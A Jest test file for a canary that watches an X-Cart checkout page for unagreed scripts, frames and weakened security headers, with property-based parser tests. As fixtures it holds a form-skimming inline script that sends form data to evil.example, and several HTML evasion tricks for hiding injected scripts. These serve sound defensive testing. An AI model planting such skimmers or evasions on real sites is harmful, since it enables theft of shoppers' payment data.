import { afterAll, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
import fc from "fast-check";
import { canaryRequest } from "../../../domain/contracts/canary.ts";
import { observe } from "../../../functions/canary/payment-page.ts";
import { walk } from "../../../functions/canary/walk.ts";
import { page, Shop } from "./shop.ts";

const shop = new Shop();
const agreed = {
  page: "checkout",
  scripts: ["/var/resources/*", "https://js.stripe.com/v3/"],
  headers: { "strict-transport-security": "max-age=31536000" },
};
const good = `<script src="/var/resources/js/a.js?9"></script><script async src=https://js.stripe.com/v3/></script>
  <script>xliteConfig = {"form_id":"abc","time":17};</script><script type="application/json">{"a":1}</script>`;

beforeAll(async () => await shop.start());
afterAll(async () => await shop.stop());
beforeEach(() => {
  shop.checkout = page("Checkout", good);
  shop.headers = { "strict-transport-security": "max-age=31536000", "x-frame-options": "SAMEORIGIN", server: "nginx" };
});

async function look(inlineScripts?: readonly string[]) {
  const request = canaryRequest.parse({
    stack: "demo-prod",
    ...shop.way,
    slowSeconds: 5,
    pages: [{ name: "checkout", path: "/?target=checkout", html: true }],
    buy: { productId: 1, before: "checkout" },
    paymentPage: { ...agreed, inlineScripts },
  });
  const { paymentPage, pages } = await walk(request);
  return { ...paymentPage, pages };
}
const seen = (body: string) => observe({ url: new URL("https://shop.test/?target=checkout"), status: 200, headers: {}, body });

describe("the payment page", () => {
  test("passes with what was agreed on, and is noted as it came", async () => {
    const { observed, changes } = await look();
    expect(changes).toEqual([]);
    expect(observed).toEqual({
      sources: [`${shop.origin}/var/resources/js/a.js`, "https://js.stripe.com/v3/"].sort(),
      inlineScripts: [expect.stringMatching(/^[0-9a-f]{16}$/)],
      headers: { "strict-transport-security": "max-age=31536000", "x-frame-options": "SAMEORIGIN" },
    });
  });

  test.each([
    ["a script of somebody else's", '<script src="https://evil.example/s.js"></script>', "https://evil.example/s.js"],
    ["one that begins like an agreed one", '<script src="https://js.stripe.com/v3/../../x.js"></script>', "https://js.stripe.com/x.js"],
    ["one without a protocol", "<script src=//evil.example/s.js></script>", "https://evil.example/s.js"],
    ["a frame", '<IFRAME SRC="https://evil.example/"></IFRAME>', "https://evil.example/"],
  ])("changes by %s", async (_, tag, source) => {
    shop.checkout = page("Checkout", good + tag);
    expect((await look()).changes).toEqual([`loads ${source}, which is not agreed on`]);
  });

  test("changes by a header that is gone or weaker", async () => {
    shop.headers = { "strict-transport-security": "max-age=0" };
    expect((await look()).changes).toEqual(['strict-transport-security is "max-age=0", expected one with "max-age=31536000"']);
  });

  test("changes by another script in the page, not by what X-Cart fills in for a shopper", async () => {
    const { observed } = await look();
    shop.checkout = page("Checkout", good.replace("abc", "xyz").replace("17", "18"));
    expect((await look(observed?.inlineScripts)).changes).toEqual([]);
    shop.checkout = page("Checkout", `${good}<script>fetch("https://evil.example/" + document.forms[0])</script>`);
    expect((await look(observed?.inlineScripts)).changes).toEqual([
      expect.stringMatching(/^has a script of its own that is not agreed on: [0-9a-f]{16}$/),
    ]);
  });

  test("is not judged where it does not come", async () => {
    shop.checkout = "<html>half";
    const { changes, pages } = await look();
    expect(changes).toBeUndefined();
    expect(pages[0]?.problem).toBe("ends before the page does");
  });
});

describe("nothing hides a script", () => {
  const evil = "https://evil.example/s.js";
  test.each([
    ["a comment that ends at once", `<!--><script src="${evil}"></script>-->`],
    ["a comment that opens a script", `<!-- <script> --><script src="${evil}"></script>`],
    ["a text area", `<textarea><script></textarea><script src="${evil}"></script>`],
    ["a bracket in a value", `<script data-x=">" src="${evil}"></script>`],
    ["a quote on its own", `<script " x=">" src="${evil}"></script>`],
    ["a slash for a space", `<script/src="${evil}"></script>`],
    ["lines and spaces", `<script\n  src\n=\n'${evil}'\n></script>`],
    ["a second src", `<script src="${evil}" src="/var/resources/a.js"></script>`],
    ["an object", `<object data="${evil}"></object>`],
  ])("%s", (_, body) => expect(seen(body).sources).toContain(evil));

  test("a document in a frame, a data address", () => {
    expect(seen(`<iframe srcdoc="&lt;script src=${evil}&gt;"></iframe>`).inlineScripts).toHaveLength(1);
    expect(seen('<script src="data:text/javascript,alert(1)"></script>').sources).toEqual([expect.stringMatching(/^data:/)]);
  });

  test("whatever comes before it in the page's text", () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom("<", ">", "<!--", "-->", "a", " ", "</p>", "<p title=x>")), (parts) => {
        expect(seen(`${parts.join("")}<script src="${evil}"></script>`).sources).toContain(evil);
      }),
    );
  });

  test("a tag that is too long to be read, and too many of them", () => {
    expect(seen(`<script ${"a ".repeat(5000)} src="${evil}"></script>`).inlineScripts).not.toEqual([]);
    expect(seen(`${`<script "'=`.repeat(20_000)}<script src="${evil}">`).sources).toContain("more than 1000 scripts and frames");
  });
});
